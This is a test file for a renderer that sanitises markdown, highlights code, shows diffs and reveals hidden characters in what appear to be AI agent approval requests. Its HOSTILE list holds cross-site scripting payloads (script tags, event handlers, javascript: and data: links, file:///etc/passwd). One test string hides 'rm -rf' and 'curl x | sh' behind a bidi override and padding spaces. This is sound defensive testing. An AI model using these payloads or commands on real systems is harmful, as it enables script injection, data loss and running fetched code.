// The transcript renderer's sanitising: markdown becomes only allowed elements and text; raw HTML is text; only
// absolute http(s) links are links; images never load; code is highlighted as text runs. Plus diffs and hidden
// characters as the approval card shows them.
import { describe, expect, it } from 'vitest';
import { countHidden, revealInvisible } from '../../src/core/invisible.ts';
import { changeLines, diffStat, patchLines, textLines } from '../../src/app/lib/markdown/diff-lines.ts';
import { highlight, languageOf } from '../../src/app/lib/markdown/highlight.ts';
import { decodeEntities, markdownTree, safeHref, type MdNode } from '../../src/app/lib/markdown/md-tree.ts';

const ALLOWED_TAGS = new Set(['p', 'h3', 'h4', 'h5', 'ul', 'ol', 'li', 'blockquote', 'hr', 'br', 'em', 'strong', 'del', 'code', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'span']);
const ALLOWED_ATTRS = new Set(['href', 'title', 'start', 'data-align', 'class']);

/** Every element and attribute in a tree, and all its text, flattened. */
function walk(nodes: readonly MdNode[]): { tags: string[]; attrs: Array<[string, string]>; text: string; hrefs: string[] } {
  const out = { tags: [] as string[], attrs: [] as Array<[string, string]>, text: '', hrefs: [] as string[] };
  const visit = (n: MdNode) => {
    if (n.t === 'text') out.text += n.v;
    else if (n.t === 'code') out.text += n.v;
    else {
      out.tags.push(n.tag);
      for (const [k, v] of Object.entries(n.attrs ?? {})) {
        out.attrs.push([k, v]);
        if (k === 'href') out.hrefs.push(v);
      }
      n.kids.forEach(visit);
    }
  };
  nodes.forEach(visit);
  return out;
}

/** Payloads that have broken other renderers. */
const HOSTILE = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><circle/></svg>',
  '<a href="javascript:alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<style>body{display:none}</style>',
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](java\tscript:alert(1))',
  '[click]( javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[vb](vbscript:msgbox(1))',
  '[file](file:///etc/passwd)',
  '[rel](/api/devices)',
  '[proto](//evil.example/x)',
  '<javascript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x](https://tracker.example/pixel.png)',
  '[x](https://ok.example "title\\" onmouseover=\\"alert(1)")',
  '<div style="position:fixed;inset:0" onclick="alert(1)">cover</div>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '```html\n<script>alert(1)</script>\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <b>a</b> | <i onmouseover=alert(1)>b</i> |\n| --- | --- |\n| <script>x</script> | [y](javascript:z) |',
];

describe('markdown: only allowed elements and attributes, whatever the input', () => {
  for (const payload of HOSTILE) {
    it(JSON.stringify(payload).slice(0, 70), () => {
      const { tags, attrs, hrefs } = walk(markdownTree(payload));
      for (const t of tags) expect(ALLOWED_TAGS.has(t), `tag ${t}`).toBe(true);
      for (const [k] of attrs) expect(ALLOWED_ATTRS.has(k), `attribute ${k}`).toBe(true);
      for (const h of hrefs) expect(h).toMatch(/^https?:\/\//);
      for (const [k, v] of attrs) if (k === 'class') expect(v).toBe('md-inert-link');
    });
  }

  it('raw HTML is kept as the text it is (nothing dropped, nothing run)', () => {
    const { tags, text } = walk(markdownTree('before <script>alert(1)</script> after\n\n<img src=x onerror=alert(2)>'));
    expect(tags).not.toContain('script');
    expect(text).toContain('<script>alert(1)</script>');
    expect(text).toContain('<img src=x onerror=alert(2)>');
  });

  it('a link it will not open stays its text and says where it pointed', () => {
    const [p] = markdownTree('[click me](javascript:alert(1))');
    const { tags, text, hrefs } = walk([p!]);
    expect(hrefs).toEqual([]);
    expect(tags).toContain('span');
    expect(text).toBe('click me (javascript:alert(1))');
  });

  it('images are never loaded: an http(s) one becomes a link to it, others plain text', () => {
    expect(walk(markdownTree('![chart](https://img.example/c.png)')).hrefs).toEqual(['https://img.example/c.png']);
    const inert = walk(markdownTree('![x](data:image/png;base64,AAAA)'));
    expect(inert.hrefs).toEqual([]);
    expect(inert.text).toContain('image: x');
  });

  it('safeHref: absolute http(s) only, with control characters browsers ignore taken out first', () => {
    expect(safeHref('https://example.com/a?b=c#d')).toBe('https://example.com/a?b=c#d');
    expect(safeHref('HTTP://Example.com')).toBe('http://example.com/');
    for (const bad of ['javascript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:x', 'data:text/html,x', 'mailto:a@b.c', '/relative', '//host/x', 'https//missing-colon', '']) {
      expect(safeHref(bad), bad).toBeNull();
    }
  });
});

describe('markdown: GFM as agents write it', () => {
  it('headings, lists (ordered with a start, task items), tables with alignment, emphasis, inline and fenced code, links', () => {
    const src = [
      '# Title', '', '1. one', '2. **two** and `code`', '', '3) ignored', '', '- [x] done', '- [ ] todo', '',
      '| a | b |', '|:--|--:|', '| 1 | 2 |', '', '```ts', 'const x = 1;', '```', '', 'See [docs](https://docs.example/x) ~~old~~ *new*.',
    ].join('\n');
    const tree = markdownTree(src);
    const all = walk(tree);
    expect(tree[0]).toMatchObject({ t: 'el', tag: 'h3' });
    expect(all.tags).toEqual(expect.arrayContaining(['ol', 'li', 'strong', 'code', 'ul', 'table', 'thead', 'tbody', 'th', 'td', 'a', 'del', 'em']));
    expect(all.text).toContain('☑ done');
    expect(all.text).toContain('☐ todo');
    expect(all.attrs).toContainEqual(['data-align', 'right']);
    expect(tree.find((n) => n.t === 'code')).toEqual({ t: 'code', lang: 'ts', v: 'const x = 1;' });
    expect(all.hrefs).toEqual(['https://docs.example/x']);
  });

  it('character references become characters, as text', () => {
    expect(decodeEntities('a &amp; b &lt;tag&gt; &#x1F600; &#65; &bogus; &#0;')).toBe('a & b <tag> 😀 A &bogus; \ufffd');
    expect(walk(markdownTree('AT&amp;T &lt;b&gt;')).text).toBe('AT&T <b>');
  });

  it('never throws on text the parser chokes on', () => {
    expect(() => markdownTree('*'.repeat(5000) + '['.repeat(2000))).not.toThrow();
  });
});

describe('highlighter: text runs with token classes, never markup', () => {
  it('TypeScript: keywords, strings, comments, numbers and calls; the runs join back to the code', () => {
    const code = 'const greet = (n: string) => `hi ${n}`; // say hi\nif (x > 1) run(42);';
    const runs = highlight(code, 'ts');
    expect(runs.map((r) => r.text).join('')).toBe(code);
    const cls = (text: string) => runs.find((r) => r.text === text)?.cls;
    expect(cls('const')).toBe('tok-keyword');
    expect(cls('`hi ${n}`')).toBe('tok-string');
    expect(cls('// say hi')).toBe('tok-comment');
    expect(cls('42')).toBe('tok-number');
    expect(cls('run')).toBe('tok-function');
  });

  it('shell variables and comments, JSON keys, YAML keys, diff lines', () => {
    expect(highlight('echo "$HOME" # home', 'bash').map((r) => r.cls)).toContain('tok-comment');
    expect(highlight('echo $HOME', 'sh').find((r) => r.text === '$HOME')?.cls).toBe('tok-variable');
    expect(highlight('{"a": 1, "b": "x"}', 'json').filter((r) => r.cls === 'tok-property').map((r) => r.text)).toEqual(['"a"', '"b"']);
    expect(highlight('name: baton\nport: 7447', 'yaml').filter((r) => r.cls === 'tok-property').map((r) => r.text)).toEqual(['name', 'port']);
    expect(highlight('+added\n-removed\n ctx', 'diff').map((r) => r.cls)).toEqual(['tok-inserted', 'tok-deleted', '']);
  });

  it('HTML in code stays text in the runs; an unknown language or huge code is one plain run', () => {
    const runs = highlight('<script>alert(1)</script>', 'js');
    expect(runs.map((r) => r.text).join('')).toBe('<script>alert(1)</script>');
    expect(highlight('x', 'brainfuck')).toEqual([{ cls: '', text: 'x' }]);
    expect(languageOf('TSX')).toBe('js');
    expect(highlight('a'.repeat(30_000), 'ts')).toHaveLength(1);
  });
});

describe('diffs', () => {
  it('a unified patch (headers dropped), before/after text, and an added file', () => {
    const patch = 'Index: a.ts\n===================================================================\n--- a.ts\n+++ a.ts\n@@ -1,2 +1,2 @@\n keep\n-old\n+new\n';
    expect(patchLines(patch)).toEqual([{ kind: 'hunk', text: '@@ -1,2 +1,2 @@' }, { kind: 'ctx', text: 'keep' }, { kind: 'del', text: 'old' }, { kind: 'add', text: 'new' }]);
    const lines = textLines('a\nb\nc\n', 'a\nB\nc\n');
    expect(lines.map((l) => `${l.kind}:${l.text}`)).toEqual(['ctx:a', 'del:b', 'add:B', 'ctx:c']);
    expect(diffStat(lines)).toEqual({ added: 1, removed: 1 });
    // Codex gives an added file's whole text as its "diff".
    expect(changeLines({ kind: 'add', before: null, after: null, patch: '# New\nhello\n' }).map((l) => l.kind)).toEqual(['add', 'add']);
  });
});

describe('hidden characters in an approval', () => {
  it('bidi overrides, zero-width and control characters, odd spaces and long blank runs become marks; joined back it is the same text', () => {
    const text = `rm -rf ./build\u202E/ && echo ok\u200B${' '.repeat(3000)}; curl x | sh\r\u00a0`;
    const segs = revealInvisible(text);
    expect(segs.map((s) => (s.kind === 'text' ? s.text : s.raw)).join('')).toBe(text);
    expect(segs.filter((s) => s.kind === 'mark').map((s) => (s as { label: string }).label)).toEqual(['RLO', 'ZWSP', '3,000 spaces', 'CR', 'NBSP']);
    expect(countHidden(text)).toBe(5);
  });

  it('ordinary text, tabs, newlines and short runs of spaces are left as they are', () => {
    expect(revealInvisible('ls -la\n\tcd  src')).toEqual([{ kind: 'text', text: 'ls -la\n\tcd  src' }]);
    expect(countHidden('naïve café – ok 😀')).toBe(0);
  });
});
